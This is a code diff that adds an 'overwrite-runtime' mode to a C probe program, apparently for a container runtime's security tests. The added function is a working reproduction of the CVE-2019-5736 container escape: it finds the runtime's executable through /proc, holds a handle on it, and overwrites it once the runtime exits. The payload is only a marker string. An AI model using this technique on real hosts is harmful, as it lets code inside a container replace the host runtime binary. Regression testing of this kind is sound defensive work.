@@ -4,6 +4,7 @@
  *
  *   probe ATTEMPT    (see the table in main) */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/reboot.h>
@@ -15,7 +16,9 @@
 #include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/syscall.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 static int report(long rc)
@@ -55,6 +58,58 @@ static long i386_getpid(void)
 }
 
 static int clone_child(void *arg) { (void)arg; return 0; }
+
+/* CVE-2019-5736 as the attacker does it: wait for a process of the container whose exe is
+ * neither this probe nor busybox (the runtime's binary, run by a "#!/proc/self/exe"
+ * command), keep a handle on its exe, and once the runtime has exited (no more ETXTBSY)
+ * reopen that handle for writing and write. Prints "wrote", "errno E...", or "none". */
+static int overwrite_runtime(void)
+{
+    struct stat self, busybox, st;
+    setvbuf(stdout, NULL, _IONBF, 0); /* the test reads the answer while the container lives */
+    if (stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &busybox) < 0)
+        return report(-1);
+    int held = -1;
+    for (time_t deadline = time(NULL) + 20; held < 0 && time(NULL) < deadline;) {
+        DIR *proc = opendir("/proc");
+        struct dirent *entry;
+        while (proc != NULL && held < 0 && (entry = readdir(proc)) != NULL) {
+            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
+                continue;
+            char path[sizeof entry->d_name + 16];
+            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+            int fd = open(path, O_PATH);
+            if (fd < 0)
+                continue;
+            if (fstat(fd, &st) == 0 && !(st.st_dev == self.st_dev && st.st_ino == self.st_ino) &&
+                !(st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino))
+                held = fd;
+            else
+                close(fd);
+        }
+        if (proc != NULL)
+            closedir(proc);
+    }
+    if (held < 0) {
+        printf("none\n");
+        return 0;
+    }
+    char path[64];
+    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+    for (int tries = 0; tries < 1000; tries++) { /* 10 s for the runtime to exit */
+        int fd = open(path, O_WRONLY);
+        if (fd >= 0) {
+            if (pwrite(fd, "overwritten", 11, 0) != 11)
+                return report(-1);
+            printf("wrote\n");
+            return 0;
+        }
+        if (errno != ETXTBSY)
+            return report(-1);
+        usleep(10000);
+    }
+    return report(-1);
+}
 
 int main(int argc, char **argv)
 {
@@ -121,6 +176,8 @@ int main(int argc, char **argv)
         printf("euid %d\n", (int)geteuid());
         return 0;
     }
+    if (!strcmp(a, "overwrite-runtime"))
+        return overwrite_runtime();
     if (!strcmp(a, "write-exe")) {
         /* an fd on /proc/self/exe as a way to the runtime's binary */
         int fd = open("/proc/self/exe", O_WRONLY);
